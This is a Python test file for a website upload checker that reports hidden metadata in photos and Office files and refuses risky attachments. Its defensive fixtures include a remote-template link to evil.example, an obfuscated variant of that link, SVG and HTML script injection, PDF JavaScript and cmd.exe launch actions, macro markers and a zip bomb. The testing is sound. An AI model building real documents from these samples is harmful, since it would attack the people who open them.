"""Pictures and attachments: what they tell beyond what they show, and how a picture is cleaned."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest

from quangang.checks import RULES
from quangang.checks.asset import Asset
from quangang.checks.manual import examples
from quangang.checks.rules import paper_metadata, picture_metadata
from quangang.checks.runner import check_asset
from quangang.text.asset_kinds import asset_fault
from quangang.text.exif import PictureFacts, picture_facts, without_metadata


def tiff(*, gps: bool = False, artist: str = "", serial: bool = False, orientation: int = 1, order: str = ">") -> bytes:
    """A directory with what is asked for, in either byte order."""
    entries: list[tuple[int, int, int, bytes]] = [
        (0x0112, 3, 1, struct.pack(f"{order}HH", orientation, 0)),
    ]
    tail = b""
    count = 1 + bool(artist) + gps + serial
    base = 8 + 2 + 12 * count + 4

    def put(data: bytes) -> int:
        nonlocal tail
        place = base + len(tail)
        tail += data
        return place

    if artist:
        raw = artist.encode() + b"\0"
        entries.append((0x013B, 2, len(raw), struct.pack(f"{order}I", put(raw))))
    if serial:
        inner = struct.pack(f"{order}HHHI4sI", 1, 0xA431, 2, 4, b"123\0", 0)
        entries.append((0x8769, 4, 1, struct.pack(f"{order}I", put(inner))))
    if gps:
        inner = struct.pack(f"{order}HHHI4sI", 1, 2, 5, 3, b"\0\0\0\0", 0)
        entries.append((0x8825, 4, 1, struct.pack(f"{order}I", put(inner))))
    head = (b"MM\0*" if order == ">" else b"II*\0") + struct.pack(f"{order}IH", 8, len(entries))
    body = b"".join(struct.pack(f"{order}HHI4s", *entry) for entry in entries)
    return head + body + struct.pack(f"{order}I", 0) + tail


def jpeg(block: bytes = b"", xmp: bytes = b"") -> bytes:
    segments = b""
    if block:
        body = b"Exif\0\0" + block
        segments += b"\xff\xe1" + struct.pack(">H", len(body) + 2) + body
    if xmp:
        body = b"http://ns.adobe.com/xap/1.0/\0" + xmp
        segments += b"\xff\xe1" + struct.pack(">H", len(body) + 2) + body
    table = b"\xff\xdb" + struct.pack(">H", 4) + b"\x00\x01"
    return b"\xff\xd8" + segments + table + b"\xff\xda\x00\x02picture\xff\xd9"


def png(block: bytes = b"") -> bytes:
    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    middle = chunk(b"eXIf", block) if block else b""
    return b"\x89PNG\r\n\x1a\n" + head + middle + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")


def webp(block: bytes) -> bytes:
    body = b"WEBP" + b"EXIF" + struct.pack("<I", len(block)) + block
    return b"RIFF" + struct.pack("<I", len(body)) + body


FACTS = [
    (jpeg(), PictureFacts()),
    (jpeg(tiff(gps=True)), PictureFacts(position=True)),
    (jpeg(tiff(gps=True, order="<")), PictureFacts(position=True)),
    (jpeg(tiff(artist="王某某")), PictureFacts(person="王某某")),
    (jpeg(tiff(serial=True, orientation=6)), PictureFacts(device=True, orientation=6)),
    (jpeg(xmp=b'<rdf exif:GPSLatitude="31,14N"/>'), PictureFacts(position=True)),
    (png(tiff(gps=True)), PictureFacts(position=True)),
    (webp(tiff(gps=True)), PictureFacts(position=True)),
    (tiff(gps=True), PictureFacts(position=True)),
    (b"\0\0\0\x18ftypheic" + b"x" * 40 + b"Exif\0\0" + tiff(gps=True), PictureFacts(position=True)),
    (b"", PictureFacts()),
    (b"\xff\xd8\xff\xe1\xff\xff", PictureFacts()),  # a length that runs off the end
    (jpeg(b"MM\0*\0\0\0\x08\xff\xff"), PictureFacts()),  # a count that does
    (jpeg(b"MM\0*\xff\xff\xff\xff"), PictureFacts()),
]


@pytest.mark.parametrize(("data", "facts"), FACTS)
def test_picture_facts(data: bytes, facts: PictureFacts) -> None:
    assert picture_facts(data) == facts


def test_every_cut_of_a_picture_is_read_without_an_error() -> None:
    for whole in (jpeg(tiff(gps=True, artist="甲", serial=True)), png(tiff(gps=True)), webp(tiff(gps=True))):
        for end in range(len(whole)):
            picture_facts(whole[:end])


@pytest.mark.parametrize("make", [jpeg, png])
def test_cleaned_picture_keeps_its_picture_and_which_way_is_up(make: object) -> None:
    assert callable(make)
    for orientation in (1, 6):
        cleaned = without_metadata(make(tiff(gps=True, artist="甲", orientation=orientation)))
        assert cleaned is not None
        assert picture_facts(cleaned) == PictureFacts(orientation=orientation)
        if orientation == 1:
            assert cleaned == make()


def paper(**parts: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in parts.items():
            archive.writestr(name.replace("__", "/") + ".xml", text)
    return buffer.getvalue()


SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><g><circle r="4"/><text>选育管用退</text></g></svg>'
CLEAN = {"word__document": "<w:document><w:p><w:r><w:t>案例</w:t></w:r></w:p></w:document>"}
PAPERS = {
    "附件 无": Asset("cases/form.docx", paper(**CLEAN)),
    "附件 批注": Asset(
        "cases/form.docx", paper(**CLEAN, word__comments='<w:comments><w:comment w:id="1"/></w:comments>')
    ),
    "附件 修订": Asset(
        "cases/form.docx", paper(word__document='<w:p><w:ins w:author="甲"><w:t>改</w:t></w:ins></w:p>')
    ),
    "附件 隐藏文字": Asset("cases/form.docx", paper(word__document="<w:rPr><w:vanish/></w:rPr>")),
    "附件 作者": Asset("cases/form.docx", paper(**CLEAN, docProps__core="<dc:creator>王秀英</dc:creator>")),
    "附件 旧格式": Asset("cases/form.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
    "附件 网页": Asset("docs/notice.html", b"<script>alert(1)</script>"),
    "附件 矢量图": Asset("docs/figure.svg", SVG.encode()),
    "附件 带脚本的矢量图": Asset("docs/figure.svg", SVG.replace("<g>", "<g onload='alert(1)'>").encode()),
    "附件 名不副实": Asset("cases/photo.png", b"<html><script>alert(1)</script></html>"),
    "照片 无": Asset("cases/photo.jpg", jpeg()),
    "照片 位置": Asset("cases/photo.jpg", jpeg(tiff(gps=True))),
    "照片 拍摄人": Asset("cases/photo.jpg", jpeg(tiff(artist="王秀英"))),
}


def test_the_manual_examples_of_asset_rules() -> None:
    for rule in RULES.values():
        if rule.asset is None or rule.page is not None:
            continue
        shown = examples(rule)
        for text in shown.bad:
            assert [report.problem.rule for report in check_asset(PAPERS[text])] == [rule.id], text
        for text in shown.good:
            assert check_asset(PAPERS[text]) == [], text


def test_a_broken_attachment_is_said_to_be_broken() -> None:
    found = check_asset(Asset("cases/form.docx", b"PK\x03\x04 not a zip"))
    assert "打不开" in found[0].problem.message


def test_a_bomb_is_not_unpacked() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b" " * (40 * 1024 * 1024))
    found = check_asset(Asset("cases/form.docx", buffer.getvalue()))
    assert "太大" in found[0].problem.message


RELATION = '<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}"{}/></Relationships>'
REMOTE = ' TargetMode="External"'
OFFICE = [
    # (part, what is in it, what is said)
    ("word/vbaProject.bin", "x", "带宏"),
    ("word/VBAPROJECT.BIN", "x", "带宏"),
    ("word/_rels/document.xml.rels", RELATION.format("vbaProject", "picture.bin", ""), "带宏"),  # by another name
    ("[Content_Types].xml", "<Types><Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>", "带宏"),
    ("word/_rels/settings.xml.rels", RELATION.format("attachedTemplate", "http://evil.example/x.dotm", REMOTE), "外面的东西"),
    ("word/_rels/settings.xml.rels", RELATION.format("attached&#84;emplate", "http://evil.example/x.dotm", REMOTE), "外面的东西"),
    ("word/_rels/document.xml.rels", RELATION.format("image", "http://evil.example/x.png", REMOTE), "外面的东西"),
    ("word/_rels/document.xml.rels", RELATION.format("image", "media/x.png", ""), ""),
    ("word/_rels/document.xml.rels", RELATION.format("hyperlink", "https://www.gov.cn/", REMOTE), ""),
    ("word/_rels/document.xml.rels", "x\0", "不正常"),
]  # fmt: skip


@pytest.mark.parametrize(("part", "held", "said"), OFFICE, ids=[f"{index}" for index in range(len(OFFICE))])
def test_what_acts_by_itself_in_an_office_file(part: str, held: str, said: str) -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("word/document.xml", "<a/>")
        archive.writestr(part, held)
    fault, _ = asset_fault(".docx", packed.getvalue())
    assert said in fault
    assert bool(said) == bool(fault)


def test_a_file_without_an_ending_is_told_so() -> None:
    (report,) = [one for one in check_asset(Asset("docs/s", b"x")) if one.problem.rule == "asset-types"]
    assert report.problem.message == "没有扩展名的文件不能放进网站"


def pdf(*objects: bytes, packed: bytes = b"") -> bytes:
    body = b"%PDF-1.7\n" + b"".join(b"%d 0 obj\n%b\nendobj\n" % (n, one) for n, one in enumerate(objects, 1))
    if packed:
        stream = zlib.compress(packed)
        body += (
            b"9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n"
            + stream
            + b"\nendstream\nendobj\n"
        )
    return body + b"trailer << /Root 1 0 R >>\n%%EOF"


@pytest.mark.parametrize(
    ("data", "told"),
    [
        (pdf(b"<< /Type /Catalog /Pages 2 0 R >>"), ""),
        (pdf(b"<< /Type /Catalog /OpenAction [3 0 R /Fit] >>"), ""),  # where it opens
        (pdf(b"<< /Length 40 >>\nstream\n(/JavaScript and /JS in a page's words)\nendstream"), ""),
        (pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "脚本"),
        (pdf(b"<< /S /J#61vaScript >>"), "脚本"),
        (pdf(b"<< /Type /Catalog >>", packed=b"1 0 << /S/JavaScript/JS(app.alert(1)) >>"), "脚本"),
        (pdf(b"<< /S /Launch /F (cmd.exe) >>"), "启动程序"),
        (pdf(b"<< /Type /EmbeddedFile >>"), "夹带的文件"),
        (pdf(b"<< /AcroForm << /XFA 3 0 R >> >>"), "表单"),
        (pdf(b"<< /S /SubmitForm /F (http://example.cn) >>"), "往外发送"),
        (b"PK\x03\x04" + pdf(), "与扩展名不符"),  # a Word file named .pdf
        (b"<html>" + pdf(), "与扩展名不符"),
    ],
)
def test_a_pdf_that_acts_by_itself_is_refused(data: bytes, told: str) -> None:
    fault, _ = asset_fault(".pdf", data)
    assert (told in fault) if told else fault == ""


def test_an_old_word_file_with_macros_is_refused() -> None:
    plain = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    assert asset_fault(".doc", plain) == ("", "")
    assert "宏" in asset_fault(".doc", plain + "_VBA_PROJECT".encode("utf-16-le"))[0]


@pytest.mark.parametrize("suffix", ["jpg", "jpeg", "PNG", "webp", "tif", "tiff", "heic"])
def test_where_a_picture_was_taken_is_told_for_every_kind_of_picture(suffix: str) -> None:
    found = list(picture_metadata.check(Asset(f"cases/photo.{suffix}", tiff(gps=True))))
    assert len(found) == 1
    assert list(picture_metadata.check(Asset("cases/photo.gif", tiff(gps=True)))) == []


@pytest.mark.parametrize("suffix", ["doc", "WPS", "xls", "ppt", "et", "dps"])
def test_old_papers_cannot_be_looked_into(suffix: str) -> None:
    (found,) = paper_metadata.check(Asset(f"cases/form.{suffix}", b"\xd0\xcf"))
    assert found.message == f"旧格式（.{suffix.lower()}）看不了里面有没有批注和个人信息"


@pytest.mark.parametrize(
    ("core", "named"),
    [
        *[
            (f"<dc:creator>{name}</dc:creator>", "")
            for name in ["", " ", "User", "admin", "Administrator", "Microsoft Office User", "python-docx", "WPS Office", "unknown"]
        ],
        ("<dc:creator>王秀英</dc:creator><cp:lastModifiedBy> 李伟 </cp:lastModifiedBy>", "李伟、王秀英"),
        ("<dc:creator>王秀英</dc:creator><cp:lastModifiedBy>王秀英</cp:lastModifiedBy>", "王秀英"),
        ("<dc:creator>Admin</dc:creator><cp:lastModifiedBy>李伟</cp:lastModifiedBy>", "李伟"),
    ],
)  # fmt: skip
def test_who_is_named_in_a_paper(core: str, named: str) -> None:
    found = list(paper_metadata.check(Asset("cases/form.docx", paper(**CLEAN, docProps__core=core))))
    assert [one.message for one in found] == ([f"附件里带着作者的名字：{named}"] if named else [])


@pytest.mark.parametrize(
    ("parts", "told"),
    [
        ({"word__document": '<w:p><w:ins w:id="1"/><w:del w:id="2"/><w:moveTo/><w:moveFrom /></w:p>'}, ["附件里有3处修订痕迹"]),
        ({"word__document": "<w:insideH/><w:delText/>"}, []),
        ({"word__document": '<w:vanish w:val="0"/><w:vanish w:val="false"/>'}, []),
        ({"word__document": '<w:vanish w:val="1"/>'}, ["附件里有隐藏文字"]),
        ({"word__document": "<w:ins/><w:vanish/><w:del >"}, ["附件里有1处修订痕迹", "附件里有隐藏文字"]),
        ({"word__comments": '<w:comment w:id="1"><w:comment>'}, ["附件里有2条批注"]),
        ({"word__comments": "<w:comments></w:comments>"}, []),
        ({"xl__comments1": "<comment ref='A1'>"}, ["附件里有1条批注"]),
        ({"xl__threadedComments__threadedComment1": "<threadedComment ref='A1'>"}, ["附件里有1条批注"]),
        ({"ppt__comments__comment1": "<p:cm >"}, ["附件里有1条批注"]),
        ({"ppt__slides__slide1": "<p:cm >", "word__footnotes": "<w:comment >"}, []),
    ],
)  # fmt: skip
def test_what_an_office_file_carries_beside_what_it_shows(parts: dict[str, str], told: list[str]) -> None:
    assert [one.message for one in paper_metadata.check(Asset("cases/form.docx", paper(**parts)))] == told
